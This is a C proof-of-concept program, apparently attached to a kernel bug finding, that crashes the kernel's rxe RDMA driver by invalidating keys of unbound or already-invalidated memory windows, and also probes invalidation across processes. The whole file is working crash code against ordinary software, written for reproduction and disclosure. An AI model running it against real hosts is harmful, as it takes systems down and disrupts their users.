// rxe-window: takes the key of a memory window of type 2 that is bound to nothing, of which the kernel dies (rxe-window.md).
//
//	cc -o rxe-window docs/findings/rxe-window.c -libverbs
//	rxe-window DEVICE new	by LOCAL_INV, of a window that was never bound
//	rxe-window DEVICE twice	by LOCAL_INV, of one that was bound, for the second time
//	rxe-window DEVICE send	by SEND_WITH_INV, of a window of the receiver's that was never bound
//	rxe-window DEVICE other	by LOCAL_INV, of a window of another process that is bound there: of that one nothing dies
//
// Whoever survives is told what the requests ended in.
#include <err.h>
#include <infiniband/verbs.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

// An end is a queue pair that is connected with itself, and its surroundings.
struct end {
	struct ibv_context *context;
	struct ibv_pd *pd;
	struct ibv_cq *cq;
	struct ibv_qp *qp;
};

static struct ibv_context *open_device(const char *name)
{
	struct ibv_device **list = ibv_get_device_list(NULL);
	for (int i = 0; list && list[i]; i++)
		if (!strcmp(ibv_get_device_name(list[i]), name))
			return ibv_open_device(list[i]);
	errx(1, "libibverbs has no device %s: apt-get install ibverbs-providers", name);
}

static void modify(struct ibv_qp *qp, struct ibv_qp_attr attr, int mask)
{
	if (ibv_modify_qp(qp, &attr, mask))
		err(1, "ibv_modify_qp");
}

static struct end connect_self(const char *device)
{
	struct end e = { .context = open_device(device) };
	struct ibv_gid_entry gids[16];
	ssize_t n = e.context ? ibv_query_gid_table(e.context, gids, 16, 0) : -1;
	if (n < 1)
		errx(1, "%s cannot be opened, or has no GID", device);
	e.pd = ibv_alloc_pd(e.context);
	e.cq = ibv_create_cq(e.context, 16, NULL, NULL, 0);
	if (!e.pd || !e.cq)
		err(1, "ibv_alloc_pd or ibv_create_cq");
	struct ibv_qp_init_attr init = { .send_cq = e.cq, .recv_cq = e.cq, .qp_type = IBV_QPT_RC, .sq_sig_all = 1,
					 .cap = { .max_send_wr = 8, .max_recv_wr = 8, .max_send_sge = 1, .max_recv_sge = 1 } };
	if (!(e.qp = ibv_create_qp(e.pd, &init)))
		err(1, "ibv_create_qp");
	modify(e.qp, (struct ibv_qp_attr){ .qp_state = IBV_QPS_INIT, .port_num = 1, .qp_access_flags = IBV_ACCESS_REMOTE_WRITE },
	       IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS);
	modify(e.qp, (struct ibv_qp_attr){ .qp_state = IBV_QPS_RTR, .path_mtu = IBV_MTU_1024, .dest_qp_num = e.qp->qp_num, .min_rnr_timer = 12,
					   .ah_attr = { .is_global = 1, .port_num = 1,
							.grh = { .dgid = gids[n - 1].gid, .sgid_index = gids[n - 1].gid_index, .hop_limit = 64 } } },
	       IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN | IBV_QP_RQ_PSN | IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER);
	modify(e.qp, (struct ibv_qp_attr){ .qp_state = IBV_QPS_RTS, .timeout = 14, .retry_cnt = 7, .rnr_retry = 7 },
	       IBV_QP_STATE | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY | IBV_QP_SQ_PSN | IBV_QP_MAX_QP_RD_ATOMIC);
	return e;
}

static struct ibv_mw *allocate(struct end e)
{
	struct ibv_mw *mw = ibv_alloc_mw(e.pd, IBV_MW_TYPE_2);
	if (!mw)
		err(1, "ibv_alloc_mw");
	return mw;
}

// request has one of the two be done, and says what it ended in.
static void request(struct end e, struct ibv_send_wr wr, const char *what, int completions)
{
	struct ibv_send_wr *bad;
	struct ibv_wc wc;
	if (ibv_post_send(e.qp, &wr, &bad))
		err(1, "ibv_post_send");
	while (completions) {
		int n = ibv_poll_cq(e.cq, 1, &wc);
		if (n < 0)
			err(1, "ibv_poll_cq");
		if (n)
			completions--, printf("%s: %s\n", wc.opcode & IBV_WC_RECV ? "received" : what, ibv_wc_status_str(wc.status));
	}
}

// bound is a window that is bound to memory of its own.
static struct ibv_mw *bound(struct end e)
{
	static char memory[4096] __attribute__((aligned(4096)));
	struct ibv_mr *mr = ibv_reg_mr(e.pd, memory, sizeof memory, IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_MW_BIND);
	if (!mr)
		err(1, "ibv_reg_mr");
	struct ibv_mw *mw = allocate(e);
	uint32_t rkey = ibv_inc_rkey(mw->rkey);
	request(e, (struct ibv_send_wr){ .opcode = IBV_WR_BIND_MW,
					 .bind_mw = { .mw = mw, .rkey = rkey,
						      .bind_info = { .mr = mr, .addr = (uintptr_t)memory, .length = sizeof memory,
								     .mw_access_flags = IBV_ACCESS_REMOTE_WRITE } } }, "BIND_MW", 1);
	mw->rkey = rkey;
	return mw;
}

static void invalidate(struct end e, uint32_t rkey)
{
	request(e, (struct ibv_send_wr){ .opcode = IBV_WR_LOCAL_INV, .invalidate_rkey = rkey }, "LOCAL_INV", 1);
}

// invalidate_others takes the key of a window that another process has bound.
static void invalidate_others(struct end e, const char *device)
{
	uint32_t rkey;
	int pipes[2];
	if (pipe(pipes))
		err(1, "pipe");
	pid_t child = fork();
	if (child < 0)
		err(1, "fork");
	if (!child) {
		rkey = bound(connect_self(device))->rkey;
		if (write(pipes[1], &rkey, sizeof rkey) != sizeof rkey)
			err(1, "write");
		pause();
	}
	close(pipes[1]);
	if (read(pipes[0], &rkey, sizeof rkey) != sizeof rkey)
		errx(1, "the other process has no window");
	invalidate(e, rkey);
	kill(child, SIGKILL);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc != 3)
		errx(2, "give a device, and new, twice, send or other");
	struct end e = connect_self(argv[1]);
	if (!strcmp(argv[2], "new")) {
		invalidate(e, allocate(e)->rkey);
	} else if (!strcmp(argv[2], "twice")) {
		struct ibv_mw *mw = bound(e);
		invalidate(e, mw->rkey);
		invalidate(e, mw->rkey);
	} else if (!strcmp(argv[2], "send")) {
		struct ibv_recv_wr wr = { .wr_id = 1 }, *bad;
		if (ibv_post_recv(e.qp, &wr, &bad))
			err(1, "ibv_post_recv");
		request(e, (struct ibv_send_wr){ .opcode = IBV_WR_SEND_WITH_INV, .invalidate_rkey = allocate(e)->rkey }, "SEND_WITH_INV", 2);
	} else if (!strcmp(argv[2], "other")) {
		invalidate_others(e, argv[1]);
	} else {
		errx(2, "what is %s?", argv[2]);
	}
}
